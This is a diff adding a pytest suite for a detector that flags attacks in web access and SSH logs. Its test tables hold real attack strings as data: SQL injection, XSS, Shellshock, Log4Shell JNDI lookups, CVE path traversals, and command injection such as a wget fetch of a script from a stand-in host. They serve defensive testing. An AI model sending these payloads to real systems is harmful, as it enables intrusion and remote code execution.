@@ -1,0 +1,413 @@
+"""Per-record security signals: known positives and negatives per rule, configuration, privacy, properties."""
+
+from __future__ import annotations
+
+import dataclasses
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from transforms.decode import MAX_DECODE_ROUNDS, full_decode, normalize_path, normalize_query
+from transforms.errors import ConfigError
+from transforms.model import Event, EventKind, SshOutcome
+from transforms.signals import RULES, SSH_EVENT_HINTS, Severity, Signal, SignalDetector, SignalParams
+
+T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)
+BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
+
+
+@pytest.fixture(scope="module")
+def detect() -> SignalDetector:
+    return SignalDetector.build(SignalParams())
+
+
+def http(url: str | None = "/", **fields: Any) -> Event:
+    """An access-log event with browser-like defaults; ``fields`` override them."""
+    values: dict[str, Any] = {
+        "method": "GET",
+        "url": url,
+        "http_version": "HTTP/1.1",
+        "status": 200,
+        "user_agent": BROWSER,
+        "format": "apache_combined",
+    }
+    values.update(fields)
+    return Event(kind=EventKind.HTTP, source_ip="203.0.113.7", time=T0, **values)
+
+
+def ssh(outcome: SshOutcome, **fields: Any) -> Event:
+    return Event(kind=EventKind.SSH, source_ip="198.51.100.4", time=T0, ssh_outcome=outcome, **fields)
+
+
+def rules(signals: list[Signal]) -> set[str]:
+    return {signal.rule for signal in signals}
+
+
+# (event, rules that fire: exactly these). One comment per row says what it shows.
+HTTP_CASES: list[tuple[Event, set[str]]] = [
+    # -- benign traffic: nothing fires
+    (http("/"), set()),  # the home page
+    (http("/presentations/logstash-monitorama-2013/images/kibana-search.png"), set()),  # a static asset
+    (http("/blog/tags/is%20it%20done%20yet"), set()),  # encoded spaces in a path
+    (http("/search?q=o%27brien+%26+sons"), set()),  # an apostrophe and an encoded '&' in a search
+    (http("/search?q=select+a+plan+from+our+offers"), set()),  # SQL words in plain English
+    (http("/search?q=rock+%26+roll+%3B+more"), set()),  # '&' and ';' followed by English words
+    (http("/scripts/?C=M;O=A"), set()),  # Apache directory-listing sort parameters use ';'
+    (http("/login?next=https%3A%2F%2Fexample.org%2Faccount"), set()),  # a redirect target is not RFI
+    (http("/misc/sample.log"), set()),  # a site that serves .log files on purpose
+    (http("/files/dhcpd.conf"), set()),  # ... and .conf files
+    (http("/wp-admin/", status=200), set()),  # a WordPress site's own admin answering 200
+    (http("/blog/tags/sysadmin", status=404), set()),  # "admin" inside a word is no admin path
+    (http("*", method="OPTIONS"), set()),  # "OPTIONS *" is a valid request target
+    (http("/api/items/3", method="PATCH"), set()),  # PATCH is a standard method
+    (http("/", http_version="HTTP/2.0"), set()),  # HTTP/2
+    (http("/dashboard/", status=401, user=None), set()),  # a 401 challenge without credentials
+    (http("/", user_agent=None, referrer=None), set()),  # no headers at all
+    (http(None, method=None), set()),  # Apache "-" 408 preconnect: nothing requested
+    (http("/", user_agent="Googlebot/2.1 (+http://www.google.com/bot.html)"), set()),  # a welcome crawler
+    (http("/docs?q=%u0041"), set()),  # an IIS %u escape of a letter
+    # -- http.auth_failure
+    (http("/wp-login.php", method="POST", status=401), {"http.auth_failure"}),  # POST to a login answered 401
+    (http("/api/orders", method="POST", status=403), {"http.auth_failure"}),  # any POST answered 403
+    (http("/user/login?destination=/node", status=403), {"http.auth_failure"}),  # GET refused on a login path
+    (http("/blog/wp-login.php", method="POST", status=200), {"http.auth_failure"}),  # WordPress' failed login
+    (http("/dashboard/", status=401, user="alice"), {"http.auth_failure"}),  # basic auth with a wrong password
+    (http("/login", method="POST", status=302), set()),  # a successful login redirects
+    # -- http.sqli
+    (http("/item?id=1%27%20or%20%271%27%3D%271"), {"http.sqli"}),  # ' or '1'='1
+    (http("/item?id=-1+union+all+select+1,2,3--+-"), {"http.sqli"}),  # UNION-based
+    (http("/item?id=1%2F**%2Funion%2F**%2Fselect%2F**%2F1"), {"http.sqli"}),  # comments as spaces
+    (http("/item?id=1%2527%2520and%2520sleep%25285%2529"), {"http.sqli"}),  # double-encoded time-based
+    (http("/item?id=1;DROP+TABLE+users"), {"http.sqli"}),  # stacked query
+    (http("/item?id=1+AND+1%3D1"), {"http.sqli"}),  # numeric tautology
+    (http("/item?id=admin%27--"), {"http.sqli"}),  # quote then comment
+    (http("/item?name=x&id=information_schema.tables"), {"http.sqli"}),  # catalog probe (CrowdSec list)
+    # -- http.xss
+    (http("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), {"http.xss"}),  # script tag
+    (http("/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), {"http.xss"}),  # event handler
+    (http("/go?u=javascript:alert(document.cookie)"), {"http.xss"}),  # javascript: URL
+    (http("/%3Csvg/onload=alert(1)%3E"), {"http.xss"}),  # injection in the path
+    (http("/p?x=&lt;script&gt;"), {"http.xss"}),  # entity-encoded tag in a raw query
+    (http("/projects/xdotool%3E"), set()),  # a stray '>' is not XSS
+    (http("/p?onload=1&x=2"), set()),  # a parameter named like a handler
+    # -- http.cmdi
+    (http("/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), {"http.cmdi", "http.path_traversal"}),  # ; cat
+    (http("/ping?host=x%7Cid"), {"http.cmdi"}),  # | id
+    (http("/ping?host=%24(whoami)"), {"http.cmdi"}),  # $(...) substitution
+    (http("/ping?host=x%26%26wget+http://198.51.100.9/x.sh"), {"http.cmdi"}),  # && wget
+    (http("/?s=index/think/app/invokefunction&function=call_user_func_array"), {"http.cmdi"}),  # ThinkPHP RCE
+    # -- http.path_traversal
+    (http("/static/..%2f..%2f..%2fetc%2fpasswd"), {"http.path_traversal"}),  # encoded ../
+    (http("/cgi-bin/.%2e/.%2e/.%2e/bin/sh"), {"http.path_traversal"}),  # Apache CVE-2021-41773
+    (http("/cgi-bin/%%32%65%%32%65/bin/sh"), {"http.path_traversal"}),  # CVE-2021-42013 nested encoding
+    (http("/download?file=..%5C..%5Cwindows%5Cwin.ini"), {"http.path_traversal"}),  # backslashes
+    (http("/page?include=/etc/shadow"), {"http.path_traversal"}),  # absolute LFI
+    (http("/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"), {"http.path_traversal"}),  # overlong UTF-8 dots
+    (http("/index.php?page=php://filter/resource=index"), {"http.path_traversal"}),  # PHP wrapper
+    (http("/docs/etc/passwords-help.html"), set()),  # an OS name must end at a component boundary
+    # -- http.rfi
+    (http("/index.php?n=http://evil.example/pizza.htm?"), {"http.rfi"}),  # trailing '?' cuts the suffix
+    (http("/index.php?page=ftp://198.51.100.9/x"), {"http.rfi"}),  # ftp:// as a value
+    (http("/i.php?mosConfig_absolute_path=http://evil.example/"), {"http.rfi"}),  # include-style name
+    (http("/img?src=http://198.51.100.9/x.txt"), {"http.rfi"}),  # IP literal host
+    # -- http.shellshock
+    (http("/cgi-bin/status", user_agent="() { :; }; /bin/bash -c 'id'"), {"http.shellshock"}),  # in the UA
+    (http("/", referrer="() { ignored; }; echo"), {"http.shellshock"}),  # in the referrer
+    # -- http.jndi
+    (http("/", user_agent="${jndi:ldap://198.51.100.9/a}"), {"http.jndi"}),  # Log4Shell in the UA
+    (http("/?x=%24%7B%24%7Blower:j%7Dndi:ldap://h/a%7D"), {"http.jndi"}),  # obfuscated, encoded, in the URL
+    # -- http.sensitive_file
+    (http("/.env"), {"http.sensitive_file"}),  # dotenv
+    (http("/app/.git/HEAD"), {"http.sensitive_file"}),  # a folder anywhere in the path
+    (http("/wp-config.php.bak"), {"http.sensitive_file"}),  # a config backup (prefix entry)
+    (http("/backup/db.sql.gz"), {"http.sensitive_file"}),  # a database dump (suffix entry)
+    (http("/home/.ssh/id_rsa"), {"http.sensitive_file"}),  # a private key
+    (http("/.%65nv"), {"http.sensitive_file"}),  # encoded letters are decoded first
+    (http("/environment/"), set()),  # a word that starts like .env
+    # -- http.webshell
+    (http("/wp-content/uploads/c99.php"), {"http.webshell"}),  # a known web shell name
+    (http("/r57.php", status=404), {"http.webshell"}),  # probing for it
+    (http("/music.php"), set()),  # whole-name match: not "c.php"
+    # -- http.admin_probe (403/404 or unknown status only)
+    (http("//phpMyAdmin/scripts/setup.php", status=404), {"http.admin_probe"}),  # doubled slash, mixed case
+    (http("/administrator/index.php", status=404), {"http.admin_probe"}),  # Joomla probe on a non-Joomla site
+    (http("/dbconsole/", status=403), {"http.admin_probe"}),  # an exact technology path
+    (http("/manager/html", status=None), {"http.admin_probe"}),  # status unknown
+    (http("/+CSCOE+/logon.html", status=404), {"http.admin_probe"}),  # '+' is literal in a path
+    # -- http.scanner_ua / http.bad_bot_ua
+    (http("/", user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)"), {"http.scanner_ua"}),  # sqlmap
+    (http("/", user_agent="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"), {"http.scanner_ua"}),  # nikto
+    (http("/", user_agent="Mozilla/5.0 zgrab/0.x"), {"http.scanner_ua"}),  # zgrab
+    (http("/", user_agent="Mozilla/5.0 (compatible; MJ12bot/v1.4.4)"), {"http.bad_bot_ua"}),  # SEO crawler
+    (http("/", user_agent="Sogou web spider/4.0"), {"http.bad_bot_ua"}),  # multi-word name
+    (http("/", user_agent="Mozilla/5.0 (compatible; Ezoomsbot)"), set()),  # whole words only
+    (http("/", user_agent="Mozilla/5.0 (Linux; Android 5.1; OPPO A33)"), set()),  # a phone, cut from the list
+    # -- http.protocol_abuse
+    (http("foo.com:25", method="CONNECT", status=400), {"http.protocol_abuse"}),  # CONNECT tunnel
+    (http("http://198.51.100.9/ip4.php", status=400), {"http.protocol_abuse"}),  # absolute-URI proxy probe
+    (http("/", method="TRACE"), {"http.protocol_abuse"}),  # TRACE
+    (http("/", method="PROPFIND"), {"http.protocol_abuse"}),  # WebDAV
+    (http("/", http_version="HTTP/1.2", status=400), {"http.protocol_abuse"}),  # invalid version
+    (http("\\x16\\x03\\x01", method=None, extra={"request": "malformed"}), {"http.protocol_abuse"}),  # TLS bytes
+    (http(None, method=None, status=400), {"http.protocol_abuse"}),  # nginx "" 400
+    (http("index.php", method="GET"), {"http.protocol_abuse"}),  # target without a leading '/'
+    # -- several rules at once, each once
+    (
+        http("/../../etc/passwd", user_agent="Nikto"),
+        {"http.path_traversal", "http.scanner_ua"},
+    ),  # traversal from a scanner
+]
+
+
+@pytest.mark.parametrize(("event", "expected"), HTTP_CASES)
+def test_http_rules_fire_exactly_as_listed(detect: SignalDetector, event: Event, expected: set[str]) -> None:
+    """Each known positive fires its rule and nothing else; each known negative fires nothing."""
+    assert rules(detect(event)) == expected
+
+
+SSH_CASES: list[tuple[Event, set[str]]] = [
+    (ssh(SshOutcome.FAILED, ssh_method="password"), {"ssh.auth_failed"}),  # "Failed password for root"
+    (ssh(SshOutcome.FAILED, invalid_user=True), {"ssh.auth_failed", "ssh.invalid_user"}),  # ... for invalid user
+    (ssh(SshOutcome.AUTH_FAILURE), {"ssh.auth_failed"}),  # pam_unix authentication failure
+    (ssh(SshOutcome.INVALID_USER), {"ssh.invalid_user"}),  # "Invalid user admin from"
+    (ssh(SshOutcome.ACCEPTED, ssh_method="publickey"), set()),  # a login is not a signal
+    (ssh(SshOutcome.DISCONNECT), set()),  # a plain disconnect
+    (ssh(SshOutcome.OTHER), set()),  # an unclassified line
+    (ssh(SshOutcome.OTHER, extra={"ssh_event": "no_ident"}), {"ssh.preauth_probe"}),  # no identification string
+    (ssh(SshOutcome.OTHER, extra={"ssh_event": "break_in"}), {"ssh.preauth_probe"}),  # POSSIBLE BREAK-IN
+    (ssh(SshOutcome.OTHER, extra={"ssh_event": "not_allowed"}), {"ssh.auth_failed"}),  # not in AllowUsers
+    (
+        ssh(SshOutcome.DISCONNECT, extra={"ssh_event": "too_many_auth"}, invalid_user=True),
+        {"ssh.auth_failed", "ssh.invalid_user"},
+    ),  # too many failures for an invalid user
+    (ssh(SshOutcome.OTHER, extra={"ssh_event": "unheard-of"}), set()),  # an unknown hint is ignored
+]
+
+
+@pytest.mark.parametrize(("event", "expected"), SSH_CASES)
+def test_ssh_rules_fire_exactly_as_listed(detect: SignalDetector, event: Event, expected: set[str]) -> None:
+    """sshd outcomes and parser hints map to their rules; an accepted login fires nothing."""
+    assert rules(detect(event)) == expected
+
+
+def test_every_ssh_hint_names_a_registered_rule() -> None:
+    """The hint table only points at rules of the registry."""
+    assert set(SSH_EVENT_HINTS.values()) <= set(RULES)
+
+
+def test_every_rule_has_a_known_positive() -> None:
+    """The tables above exercise every registered rule at least once."""
+    fired = set().union(*(expected for _, expected in HTTP_CASES + SSH_CASES))
+    assert fired == set(RULES)
+
+
+def test_signals_come_in_registry_order_without_duplicates(detect: SignalDetector) -> None:
+    """Several rules on one event each appear once, in registry order."""
+    event = http(
+        "/cgi-bin/../../etc/passwd?q=%27+or+1%3D1--",
+        user_agent="() { :; }; sqlmap",
+        method="TRACE",
+        status=404,
+    )
+    fired = [signal.rule for signal in detect(event)]
+    assert fired == [rule for rule in RULES if rule in fired]
+    assert len(fired) == len(set(fired)) >= 4
+
+
+# --------------------------------------------------------------------------------------------- privacy
+
+
+def test_a_signal_carries_only_rule_metadata() -> None:
+    """A Signal has no field that could hold request data."""
+    assert [field.name for field in dataclasses.fields(Signal)] == ["rule", "category", "severity", "technique"]
+
+
+def test_signals_are_the_registry_instances(detect: SignalDetector) -> None:
+    """What the detector returns is one of the prebuilt registry objects, so nothing from the event flows in."""
+    registry = {id(signal) for signal in RULES.values()}
+    for event, _ in HTTP_CASES + SSH_CASES:
+        assert all(id(signal) in registry for signal in detect(event))
+
+
+def test_registry_metadata_is_well_formed() -> None:
+    """Rule ids are namespaced, severities are Severity members, techniques look like ATT&CK ids."""
+    for rule, signal in RULES.items():
+        assert signal.rule == rule
+        assert rule.split(".")[0] in {"http", "ssh"}
+        assert isinstance(signal.severity, Severity)
+        assert signal.technique is None or signal.technique.startswith("T1")
+
+
+# --------------------------------------------------------------------------------------------- config
+
+
+def test_enabled_rules_limits_what_runs() -> None:
+    """Only the enabled rules fire, and rule_ids lists them in registry order."""
+    detector = SignalDetector.build(SignalParams(enabled_rules=["http.scanner_ua", "ssh.auth_failed"]))
+    assert detector.rule_ids == ("ssh.auth_failed", "http.scanner_ua")
+    assert rules(detector(http("/../etc/passwd", user_agent="nikto"))) == {"http.scanner_ua"}
+    assert rules(detector(ssh(SshOutcome.FAILED, invalid_user=True))) == {"ssh.auth_failed"}
+
+
+def test_no_enabled_rules_means_no_signals() -> None:
+    """An empty rule list is valid and fires nothing."""
+    detector = SignalDetector.build(SignalParams(enabled_rules=[]))
+    assert detector(http("/.env", user_agent="sqlmap")) == []
+
+
+def test_unknown_rule_is_a_config_error_listing_the_valid_ones() -> None:
+    """An unknown rule id stops start-up; the message names it and every valid id."""
+    with pytest.raises(ConfigError, match="http.sqly") as caught:
+        SignalDetector.build(SignalParams(enabled_rules=["http.sqly"]))
+    assert all(rule in str(caught.value) for rule in RULES)
+
+
+def test_unknown_setting_is_rejected() -> None:
+    """The settings model forbids unknown keys and is frozen."""
+    with pytest.raises(ValueError, match="extra"):
+        SignalParams(patterns_directory="x")  # type: ignore[call-arg]
+    params = SignalParams()
+    with pytest.raises(ValueError, match="frozen"):
+        params.patterns_dir = "x"  # type: ignore[misc]
+
+
+@pytest.mark.parametrize(
+    "auth_paths",
+    [
+        ["login"],  # no leading slash
+        ["/"],  # the root would make every 401/403 a login failure
+    ],
+)
+def test_bad_auth_path_is_a_config_error(auth_paths: list[str]) -> None:
+    """auth_paths entries must be non-empty paths."""
+    with pytest.raises(ConfigError, match="auth_paths"):
+        SignalDetector.build(SignalParams(auth_paths=auth_paths))
+
+
+def test_custom_auth_paths_replace_the_defaults() -> None:
+    """A site-specific login path is used instead of the defaults."""
+    detector = SignalDetector.build(SignalParams(auth_paths=["/portal/enter"], enabled_rules=["http.auth_failure"]))
+    assert rules(detector(http("/portal/enter", status=403))) == {"http.auth_failure"}
+    assert rules(detector(http("/login", status=403))) == set()
+
+
+def test_missing_patterns_dir_is_a_config_error(tmp_path: Path) -> None:
+    """A patterns_dir that does not exist stops start-up."""
+    with pytest.raises(ConfigError, match="patterns_dir"):
+        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path / "nope")))
+
+
+def test_missing_pattern_file_is_named(tmp_path: Path) -> None:
+    """A missing file is named; a disabled rule's file is not needed."""
+    with pytest.raises(ConfigError, match="webshells.txt"):
+        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.webshell"]))
+    # protocol_abuse needs no file at all
+    SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.protocol_abuse"]))
+
+
+def test_empty_pattern_file_is_a_config_error(tmp_path: Path) -> None:
+    """A file with only comments is a mistake, not an empty rule."""
+    (tmp_path / "webshells.txt").write_text("# nothing here\n\n", encoding="utf-8")
+    with pytest.raises(ConfigError, match=r"webshells\.txt has no entries"):
+        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.webshell"]))
+
+
+def test_invalid_regex_is_a_config_error_with_its_line(tmp_path: Path) -> None:
+    """A bad regular expression is reported with its file and line number."""
+    (tmp_path / "xss.regex.txt").write_text("# header\n<script\n(unclosed\n", encoding="utf-8")
+    with pytest.raises(ConfigError, match=r"xss\.regex\.txt line 3"):
+        SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.xss"]))
+
+
+def test_custom_pattern_file_is_used(tmp_path: Path) -> None:
+    """patterns_dir replaces the packaged lists."""
+    (tmp_path / "webshells.txt").write_text("# mine\nMyShell.php\n", encoding="utf-8")
+    detector = SignalDetector.build(SignalParams(patterns_dir=str(tmp_path), enabled_rules=["http.webshell"]))
+    assert rules(detector(http("/x/myshell.php"))) == {"http.webshell"}
+    assert rules(detector(http("/c99.php"))) == set()
+
+
+# --------------------------------------------------------------------------------------------- decoding
+
+# (input, normalize_path, normalize_query). Known answers of the canonical forms the rules match on.
+DECODE_CASES = [
+    ("%252e%252e%252f", "../", "../"),  # double encoding, fully undone
+    ("/A//B/./c", "/a/b/c", "/a//b/./c"),  # paths collapse, queries keep their slashes
+    ("a+b%2Bc", "a+b+c", "a b c"),  # '+' is a space only in a query (and %2B decodes to '+' then ' ')
+    ("..%5c..%5cwin.ini", "../../win.ini", "../../win.ini"),  # backslashes read as slashes
+    ("%c0%ae%c0%ae/", "../", "../"),  # overlong UTF-8 dots
+    ("%u002e%u002e/", "../", "../"),  # IIS %u escapes
+    ("%ff%zz%", "\ufffd%zz%", "\ufffd%zz%"),  # a stray byte and broken escapes never raise
+]
+
+
+@pytest.mark.parametrize(("raw", "path", "query"), DECODE_CASES)
+def test_decoding_known_answers(raw: str, path: str, query: str) -> None:
+    """The canonical forms of a few tricky spellings."""
+    assert normalize_path(raw) == path
+    assert normalize_query(raw) == query
+
+
+# Text that exercises decoding: escapes, '+', slashes, dots and case, nested up to three times.
+_URLISH = st.text(alphabet="%+/.\\uUcCaAeEfF0123456789 x", max_size=2 * MAX_DECODE_ROUNDS - 4)
+_NESTED = st.builds(
+    lambda text, depth: _nest(text, depth),
+    st.text(max_size=20),
+    st.integers(min_value=0, max_value=3),
+)
+
+
+def _nest(text: str, depth: int) -> str:
+    for _ in range(depth):
+        text = quote(text, safe="")
+    return text
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.one_of(_URLISH, _NESTED, st.text(max_size=2 * MAX_DECODE_ROUNDS - 4)))
+def test_decoding_is_idempotent_after_full_decode(raw: str) -> None:
+    """Decoding an already fully decoded text changes nothing (for inputs the round limit fully decodes)."""
+    for plus_as_space in (False, True):
+        once = full_decode(raw, plus_as_space=plus_as_space)
+        assert full_decode(once, plus_as_space=plus_as_space) == once
+    assert normalize_path(normalize_path(raw)) == normalize_path(raw)
+    assert normalize_query(normalize_query(raw)) == normalize_query(raw)
+
+
+@settings(max_examples=50, deadline=None)
+@given(st.text(max_size=20), st.integers(min_value=1, max_value=3))
+def test_nested_encoding_is_fully_undone(text: str, depth: int) -> None:
+    """Any number of percent-encoding layers (up to three here) decodes back to the original text."""
+    assert full_decode(_nest(text, depth)) == full_decode(text)
+
+
+_TEXT = st.text(max_size=300)
+_OPTIONAL_TEXT = st.none() | _TEXT
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    kind=st.sampled_from(EventKind),
+    method=_OPTIONAL_TEXT,
+    url=st.none() | _TEXT | _URLISH,
+    http_version=_OPTIONAL_TEXT,
+    status=st.none() | st.integers(min_value=-1, max_value=1000),
+    referrer=_OPTIONAL_TEXT,
+    user_agent=_OPTIONAL_TEXT,
+    user=_OPTIONAL_TEXT,
+    ssh_outcome=st.none() | st.sampled_from(SshOutcome),
+    invalid_user=st.booleans(),
+    extra=st.dictionaries(st.sampled_from(["request", "ssh_event", "x"]), _TEXT, max_size=3),
+)
+def test_detector_never_raises_on_arbitrary_event_strings(detect: SignalDetector, **fields: Any) -> None:
+    """Any combination of field values gives a list of distinct registry signals, never an exception."""
+    kind = fields.pop("kind")
+    event = Event(kind=kind, source_ip="x", time=T0, **fields)
+    signals = detect(event)
+    assert all(signal is RULES[signal.rule] for signal in signals)
+    assert len(signals) == len({signal.rule for signal in signals})
